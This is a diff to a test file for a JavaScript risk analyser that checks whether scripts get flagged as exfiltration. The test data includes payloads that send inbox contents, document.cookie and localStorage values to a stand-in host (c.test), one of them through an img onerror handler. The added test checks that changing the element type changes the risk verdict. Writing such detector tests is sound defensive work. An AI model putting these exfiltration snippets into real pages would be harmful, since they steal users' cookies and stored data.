@@ -101,9 +101,7 @@ const CLASSES: readonly PayloadClass[] = [
 		attacks: [
 			`fetch("https://mail.test/inbox").then((r) => r.text()).then((t) => fetch("https://c.test/?" + encodeURIComponent(t)));`,
 		],
-		twins: [
-			`fetch("https://api.test/a").then((r) => r.text()).then((t) => fetch("https://www.api.test/b?" + t));`,
-		],
+		twins: [`fetch("https://api.test/a").then((r) => r.text()).then((t) => fetch("https://www.api.test/b?" + t));`],
 	},
 ];
 
@@ -139,6 +137,15 @@ describe("names of one of several objects", () => {
 		make("div"); make("img", { src: "x", onerror: "fetch('https://c.test/' + document.cookie)" });`);
 		expect(analyzeScript({ code }).risk_level).toBe("red");
 	});
+});
+
+test("the source of an element that fetches none is a property", () => {
+	const code = onShop(
+		`const kept = document.createElement("li"); kept.src = "https://c.test/?" + localStorage.getItem("place"); document.body.append(kept);`,
+	);
+	expect(analyzeScript({ code }).risk_level).toBe("green");
+	expect(analyzeScript({ code: code.replace('"li"', '"img"') }).risk_level).toBe("red");
+	expect(analyzeScript({ code: code.replace('"li"', '"x-player"') }).risk_level).toBe("red");
 });
 
 test("a key of a sign-in service in a request to a host of the same domain is not sent away", () => {
